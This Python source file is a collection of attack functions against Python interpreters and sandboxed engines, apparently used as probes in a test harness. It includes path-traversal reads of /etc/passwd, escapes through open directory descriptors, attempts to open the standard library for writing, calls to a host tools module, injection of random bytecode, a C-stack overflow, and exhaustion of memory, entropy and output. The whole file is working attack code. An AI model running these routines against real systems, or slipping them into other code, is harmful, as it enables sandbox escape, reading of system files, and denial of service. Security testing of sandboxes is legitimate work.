"""Attacks on Python itself, and on what runs it: a machine, or an engine on one."""

import os
import sys


def climb_out(decoy, port):
    """Climb out of a folder that can be read, to the machine's passwords."""
    import nnlib

    up = "/".join([".."] * 12)
    for folder in (os.path.dirname(nnlib.__file__), *sys.path):
        try:
            with open(f"{folder}/{up}/etc/passwd", "rb") as file:
                return bool(file.read())
        except OSError as error:
            last = error
    raise last


def climb_from_a_descriptor(decoy, port):
    """Climb out of an open folder: an engine keeps those that it has granted open."""
    last = PermissionError(1, "no folder is open")
    for folder in range(3, 64):
        for path in ("../etc/passwd", "../../../../../../etc/passwd", decoy[1:]):
            try:
                return os.open(path, os.O_RDONLY, dir_fd=folder) >= 0
            except OSError as error:
                last = error
    raise last


def write_over_python(decoy, port):
    """Write over the archive or the file from which Python's library is read."""
    for path in (sys.path[0], *sys.path, os.__file__):
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
            return True
        except OSError as error:
            last = error
    raise last


def call_the_host(decoy, port):
    """Call the functions that an engine's host may offer to what it runs."""
    from host import tools

    return bool(dir(tools))


def steps_of_no_compiler(decoy, port):
    """Run steps that no compiler made, which read and write at random addresses."""

    def victim(a, b, c):
        return a

    for seed in range(256):
        steps = bytes((seed * 31 + n * 97 + n * n) % 256 for n in range(400))
        try:
            wild = victim.__code__.replace(co_code=steps, co_stacksize=1)
            type(victim)(wild, globals())(1, 2, 3)
        except Exception:
            continue
    os._exit(0)


def fill_the_stack_in_c(decoy, port):
    """Fill the stack below Python's own count of calls."""
    sys.setrecursionlimit(10**9)
    nested = ()
    for _ in range(400_000):
        nested = (nested,)
    return hash(nested) is None


def chance_for_ever(decoy, port):
    """Ask the system for random bytes for ever, half a billion at a time."""
    while True:
        os.urandom(500_000_000)


def one_huge_write(decoy, port):
    """Write 600 MB in one step to whatever is open."""
    room = bytes(600_000_000)
    for stream in range(1, 64):
        try:
            os.write(stream, room)
        except OSError:
            continue
    os._exit(0)
